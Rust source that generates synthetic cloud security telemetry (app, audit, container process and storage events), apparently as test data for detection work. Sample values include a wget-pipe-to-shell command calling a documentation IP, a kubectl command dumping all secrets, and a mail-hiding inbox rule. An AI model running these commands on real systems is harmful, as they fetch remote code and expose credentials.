//! Tables about applications and clouds.

use super::identity::write_habits;
use super::json::{Object, Time};
use super::record::Record;
use super::table::Table;
use crate::generate::directory::Person;
use crate::generate::pools;
use crate::time::{HOUR, SECOND};

const SUBSCRIPTION: &str = "0f4b6e1c-52a7-4d0e-9d6c-3f7d5f2b8a11";

/// Appends the columns of a record.
pub(super) fn write(record: &mut Record<'_>, row: &mut Object<'_>) {
    row.set("Timestamp", Time(record.timestamp));
    match record.table {
        Table::CloudAppEvents => write_app(record, row),
        Table::CloudAuditEvents => write_audit(record, row),
        Table::CloudProcessEvents => write_process(record, row),
        _ => write_storage(record, row),
    }
}

/// Where a caller is.
fn write_place(record: &mut Record<'_>, row: &mut Object<'_>) -> String {
    let (network, (first, last), [city, _, _, country], _) = record.dice.pick(&pools::NETWORKS);
    let ip = format!("{network}{}", record.dice.between(first, last + 1));
    let [_, _, agent] = record.dice.pick(&pools::BROWSERS);
    row.set("IPAddress", &ip);
    row.set("IsAnonymousProxy", record.dice.chance(0.02));
    row.set("CountryCode", country);
    row.set("City", city);
    row.set("ISP", "Contoso Broadband");
    row.set("UserAgent", agent);
    ip
}

fn write_app(record: &mut Record<'_>, row: &mut Object<'_>) {
    let Some(person) = record.dice.among(&record.world.people) else { return };
    let ip = write_place(record, row);
    let dice = &mut record.dice;
    let (application, id) = dice.pick(&pools::CLOUD_APPLICATIONS);
    let action = dice.pick(&[
        "FileAccessed",
        "FileDownloaded",
        "MailItemsAccessed",
        "Send",
        "UserLoggedIn",
        "New-InboxRule",
        "MemberAdded",
        "AirInvestigationData",
    ]);
    let is_admin = action == "New-InboxRule" || dice.chance(0.05);
    let item =
        format!("https://contoso.sharepoint.com/sites/finance/Freigegebene Dokumente/Übersicht {}.xlsx", dice.hex(6));
    row.set("ActionType", action);
    row.set("Application", application);
    row.set("ApplicationId", id);
    row.set("AppInstanceId", 0);
    row.set("AccountObjectId", &person.object_id);
    row.set("AccountId", &person.object_id);
    row.set("AccountDisplayName", &person.name);
    row.set("IsAdminOperation", is_admin);
    row.set("DeviceType", dice.pick(&["Desktop", "Mobile", "Other"]));
    row.set("OSPlatform", dice.pick(&["Windows 10", "OS X", "Linux", ""]));
    row.set("ActivityType", dice.pick(&["Basic", "Run", "Download", "Logon"]));
    row.objects("ActivityObjects", 2, |index, object| {
        object.set("Type", if index == 0 { "File" } else { "User" });
        object.set("Role", if index == 0 { "Target object" } else { "Actor" });
        object.set("Name", if index == 0 { &item } else { &person.name });
        object.set("Id", if index == 0 { &item } else { &person.object_id });
        if index == 1 {
            object.set("ApplicationId", 11_161);
            object.set("ApplicationInstance", 0);
        }
    });
    row.set("ObjectName", &item);
    row.set("ObjectType", "File");
    row.set("ObjectId", &item);
    row.set("ReportId", format_args!("{}_{}", dice.guid(), record.index));
    row.set("AccountType", if is_admin { "Admin" } else { "Regular" });
    row.set("IsExternalUser", dice.chance(0.05));
    row.set("IsImpersonated", false);
    row.set("IPTags", if dice.chance(0.2) { ["Corporate", "Zürich"].as_slice() } else { &[] });
    row.set("IPCategory", dice.pick(&["None", "Corporate", "Risky"]));
    row.set("UserAgentTags", if dice.chance(0.1) { ["Outdated browser"].as_slice() } else { &[] });
    write_raw(record, row, person, action, &ip, &item);
    row.object("AdditionalFields", |fields| fields.set("IsSatelliteProvider", false));
    write_habits(row, record.index.is_multiple_of(2));
    row.set("AuditSource", "Defender for Cloud Apps app connector");
    if record.dice.chance(0.1) {
        row.object("SessionData", |data| data.set("InLineSessionId", record.dice.guid()));
    } else {
        row.nulls(["SessionData"]);
    }
    row.set("OAuthAppId", record.dice.chance(0.2).then(|| record.dice.guid()));
}

/// What the application itself reported: up to several KB.
fn write_raw(record: &mut Record<'_>, row: &mut Object<'_>, person: &Person, action: &str, ip: &str, item: &str) {
    let timestamp = record.timestamp / SECOND * SECOND;
    let tenant = &record.world.tenant_id;
    let dice = &mut record.dice;
    let folders = if action == "MailItemsAccessed" { dice.below(5) + 1 } else { 0 };
    let parameters = if action == "New-InboxRule" { 6 } else { 0 };
    row.object("RawEventData", |raw| {
        raw.set("CreationTime", Time(timestamp));
        raw.set("Id", dice.guid());
        raw.set("Operation", action);
        raw.set("OrganizationId", tenant);
        raw.set("RecordType", dice.pick(&[2, 6, 15, 50]));
        raw.set("UserKey", format_args!("i:0h.f|membership|{}@live.com", person.object_id));
        raw.set("UserType", 0);
        raw.set("Version", 1);
        raw.set("Workload", "SharePoint");
        raw.set("ClientIP", ip);
        raw.set("UserId", &person.upn);
        raw.set("AuthenticationType", "OAuth");
        raw.set("BrowserName", "Edge");
        raw.set("BrowserVersion", "133.0.0.0");
        raw.set("CorrelationId", dice.guid());
        raw.set("EventSource", "SharePoint");
        raw.set("ItemType", "File");
        raw.set("ObjectId", item);
        raw.set("Site", dice.guid());
        raw.set("WebId", dice.guid());
        raw.set("ListItemUniqueId", dice.guid());
        raw.set("SourceFileExtension", "xlsx");
        raw.set("SiteUrl", "https://contoso.sharepoint.com/sites/finance/");
        raw.set("SensitivityLabelId", dice.guid());
        raw.set("FileSizeBytes", dice.between(100, 90_000_000));
        raw.set("IsManagedDevice", dice.chance(0.7));
        raw.object("AppAccessContext", |context| {
            context.set("AADSessionId", dice.guid());
            context.set("ClientAppId", dice.guid());
            context.set("ClientAppName", "Microsoft Office");
            context.set("UniqueTokenId", dice.hex(22));
        });
        raw.objects("ExtendedProperties", 3, |index, property| {
            property.set("Name", ["RequestType", "ResultStatusDetail", "UserAgent"].get(index));
            property.set(
                "Value",
                ["OAuth2:Authorize", "Success", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"]
                    .get(index),
            );
        });
        raw.objects("Parameters", parameters, |index, parameter| {
            parameter.set(
                "Name",
                ["Name", "SubjectContainsWords", "MoveToFolder", "StopProcessingRules", "MarkAsRead", "Force"]
                    .get(index),
            );
            parameter.set(
                "Value",
                ["..", "invoice;\"payment\";Überweisung", "RSS Feeds", "True", "True", "False"].get(index),
            );
        });
        raw.objects("Folders", folders, |_, folder| {
            folder.set("Id", format_args!("LgAAAAB{}", dice.hex(60)));
            folder.set("Path", "\\Inbox\\Größere Aufträge");
            folder.objects("FolderItems", 5, |_, item| {
                item.set("ImmutableId", format_args!("LgAAAAB{}AAAC", dice.hex(80)));
                item.set("InternetMessageId", format_args!("<{}@contoso.com>", dice.hex(32)));
                item.set("SizeInBytes", dice.between(1000, 90_000));
                item.set("Subject", "RE: Payroll update – please confirm");
            });
        });
    });
}

fn write_audit(record: &mut Record<'_>, row: &mut Object<'_>) {
    let ip = write_place(record, row);
    let dice = &mut record.dice;
    let cloud = dice.pick(&["Azure", "AWS", "GCP"]);
    let operation = match cloud {
        "Azure" => "Microsoft.Storage/storageAccounts/listKeys/action",
        "AWS" => "ConsoleLogin",
        _ => "google.iam.admin.v1.CreateServiceAccountKey",
    };
    row.set("ReportId", format_args!("{}_{}", dice.guid(), record.index));
    row.set("DataSource", cloud);
    row.set("ActionType", dice.pick(&["CloudAuditEventOther", "CloudAuditEventCreate", "CloudAuditEventDelete"]));
    row.set("OperationName", operation);
    row.set("AuditSource", "Defender for Cloud");
    write_resource(row, cloud, "Microsoft.Storage/storageAccounts/contoso");
    row.set("Account", "zoe.lindqvist@contoso.com");
    row.object("RawEventData", |raw| {
        raw.set("operationName", operation);
        raw.set("callerIpAddress", &ip);
        raw.set("resultType", "Success");
        raw.object("identity", |identity| {
            identity.object("claims", |claims| {
                claims.set("appid", dice.guid());
                claims.set("name", "Zoë Lindqvist");
                claims.set("scp", "user_impersonation");
            });
        });
    });
    row.object("AdditionalFields", |fields| fields.set("Region", "westeurope"));
    if record.has_rare_columns {
        row.set("CloudResourceId", "contoso");
    }
}

/// The resource, in the column of its cloud.
fn write_resource(row: &mut Object<'_>, cloud: &str, resource: &str) {
    if cloud == "Azure" {
        row.set(
            "AzureResourceId",
            format_args!("/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-prod/providers/{resource}"),
        );
    } else {
        row.set("AzureResourceId", "");
    }
    row.set("AwsResourceName", (cloud == "AWS").then_some("arn:aws:eks:eu-central-1:123456789012:cluster/prod"));
    row.set(
        "GcpFullResourceName",
        (cloud == "GCP").then_some("//container.googleapis.com/projects/contoso/locations/europe-west6/clusters/prod"),
    );
}

fn write_process(record: &mut Record<'_>, row: &mut Object<'_>) {
    let timestamp = record.timestamp;
    let dice = &mut record.dice;
    let cloud = dice.pick(&["Azure", "Azure", "AWS", "GCP"]);
    let (name, folder, command) = dice.pick(&[
        ("sh", "/bin", "sh -c \"wget -qO- http://198.51.100.9/x | sh\""),
        ("nginx", "/usr/sbin", "nginx: worker process"),
        ("kubectl", "/usr/local/bin", "kubectl get secrets --all-namespaces -o json"),
        ("python3", "/usr/bin", "python3 /app/main.py --größe 3"),
    ]);
    write_resource(row, cloud, "Microsoft.ContainerService/managedClusters/prod");
    row.set(
        "ContainerImageName",
        dice.pick(&["docker.io/library/nginx:1.27", "contoso.azurecr.io/portal@sha256:0f3c"]),
    );
    row.set("KubernetesNamespace", "default");
    row.set("KubernetesPodName", format_args!("portal-{}-{}", dice.hex(9), dice.hex(5)));
    row.set("KubernetesResource", "default/deployment/portal");
    row.set("ContainerName", "portal");
    row.set("ContainerId", dice.hex(64));
    row.set("ActionType", "ProcessCreated");
    row.set("FileName", name);
    row.set("FolderPath", folder);
    row.set("ProcessId", dice.between(2, 4_000_000));
    row.set("ProcessName", name);
    row.set("ParentProcessName", "containerd-shim-runc-v2");
    row.set("ParentProcessId", format_args!("{}", dice.between(2, 90_000)));
    row.set("ProcessCommandLine", command);
    row.set("ProcessCreationTime", Time(timestamp - dice.between(0, SECOND)));
    row.set("ProcessCurrentWorkingDirectory", "/app");
    row.set("AccountName", "root");
    row.set("LogonId", 0);
    row.set("InitiatingProcessId", format_args!("{}", dice.between(2, 90_000)));
    row.object_text("AdditionalFields", |fields| {
        fields.set("containerRuntime", "containerd");
        fields.object("node", |node| {
            node.set("name", "aks-pool1-00000a");
            node.set("kernel", "5.15.0-1079-azure");
        });
    });
    row.set("ReportId", format_args!("{}_{}", dice.guid(), record.index));
    if record.has_rare_columns {
        row.set("ImageDigest", format_args!("sha256:{}", record.dice.hex(64)));
        row.set("AgentId", record.dice.guid());
        row.set("Region", "westeurope");
        row.set("HostName", "aks-pool1-00000a");
    }
}

fn write_storage(record: &mut Record<'_>, row: &mut Object<'_>) {
    let timestamp = record.timestamp;
    let Some(person) = record.dice.among(&record.world.people) else { return };
    let dice = &mut record.dice;
    let operations = dice.between(2, 90_000);
    let begin = timestamp / HOUR * HOUR - HOUR;
    row.set("DataAggregationStartTime", Time(begin));
    row.set("DataAggregationEndTime", Time(begin + HOUR));
    row.set("DataSource", "Azure Storage");
    row.set("SubscriptionId", SUBSCRIPTION);
    row.set("ResourceGroup", "rg-prod");
    row.set("StorageAccount", "contoso");
    row.set("StorageContainer", "backups");
    row.set("StorageFileShare", dice.pick(&["", "projects"]));
    row.set("ServiceType", dice.pick(&["blob", "file"]));
    row.set("IPAddress", format_args!("203.0.113.{}", dice.between(1, 255)));
    row.set("UserAgentHeader", "azsdk-python-storage-blob/12.24.0 Python/3.12.3 (Linux-6.8.0-x86_64-with-glibc2.39)");
    row.set("OperationNamesList", ["GetBlob", "ListBlobs", "GetBlobProperties"]);
    row.set("AuthenticationType", dice.pick(&["OAuth", "SAS", "AccountKey", "Anonymous"]));
    row.set("AccountObjectId", &person.object_id);
    row.set("AccountTenantId", 0);
    row.set("AccountApplicationId", dice.guid());
    row.set("AccountUpn", &person.upn);
    row.set("AccountType", 0);
    row.set("OperationsCount", operations);
    row.set("SuccessfulOperationsCount", operations - 1);
    row.set("FailedOperationsCount", 1);
    row.set("TotalResponseLength", operations * 8000);
    row.set("SuccessfulReadOperations", operations - 2);
    row.set("DistinctGetOperations", 3);
    row.set("AnonymousSuccessfulOperations", 0);
    row.set("HasAnonymousResourceNotFoundFailures", false);
    row.set("Md5Hashes", [dice.hex(32), dice.hex(32)]);
    row.set(
        "AzureResourceId",
        format_args!(
            "/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-prod/providers/Microsoft.Storage/storageAccounts/contoso"
        ),
    );
    row.set("Location", "westeurope");
    row.set("ReportId", format_args!("{}_{}", dice.guid(), record.index));
    row.set("ActionType", "Data Aggregation");
    row.object("AdditionalFields", |fields| fields.set("ClientRequestIds", ["a", "b"]));
    if record.has_rare_columns {
        row.set("FirstEventTimestamp", Time(begin + SECOND));
        row.set("LastEventTimestamp", Time(timestamp - SECOND));
        row.set("CountryName", "Netherlands");
        row.set("CityName", "Amsterdam");
        row.set("ProvinceName", "North Holland");
        row.set("ClientSystemServiceName", "AzureStorage");
        row.set("ClientCloudPlatformName", "Azure");
        row.set("IsTorExitNode", false);
        row.set("IsKnownSuspiciousIp", false);
        row.set("IsPrivateIp", false);
        row.set("SuspiciousUserAgentName", "AzureHound");
        row.set("AzureSubscriptionId", SUBSCRIPTION);
    }
}
